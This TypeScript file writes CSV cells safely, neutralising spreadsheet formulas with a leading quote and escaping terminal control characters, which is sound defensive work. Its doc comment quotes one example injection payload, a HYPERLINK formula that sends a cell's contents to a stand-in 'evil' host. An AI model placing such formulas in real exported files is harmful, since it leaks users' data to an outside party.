/**
 * One CSV cell, for every CSV the project writes. Text that a spreadsheet would read as a formula
 * (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is neutralised by OWASP's rule, a
 * leading single quote, so a model's answer such as `=HYPERLINK("https://evil/?"&A1)` stays text.
 * Numbers and booleans are written as they are (a negative cost is a number, not a formula); text
 * with a comma, quote or line break is quoted.
 */
export function csvCell(v: unknown): string {
  if (v === null || v === undefined) return "";
  if (typeof v === "number" || typeof v === "boolean") return quoteIfNeeded(String(v));
  const text = typeof v === "string" ? v : JSON.stringify(v);
  return quoteIfNeeded(neutraliseFormula(showControls(text)));
}

/**
 * Control characters other than tab and line breaks written as `\x1b`: a cell may hold a
 * program's exception message, and a terminal that shows the file (`cat`) would obey them.
 */
function showControls(text: string): string {
  return text.replace(
    // eslint-disable-next-line no-control-regex
    /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/g,
    (c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, "0")}`,
  );
}

/** `'` before text that starts like a spreadsheet formula (OWASP CSV injection). */
export function neutraliseFormula(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

function quoteIfNeeded(s: string): string {
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}
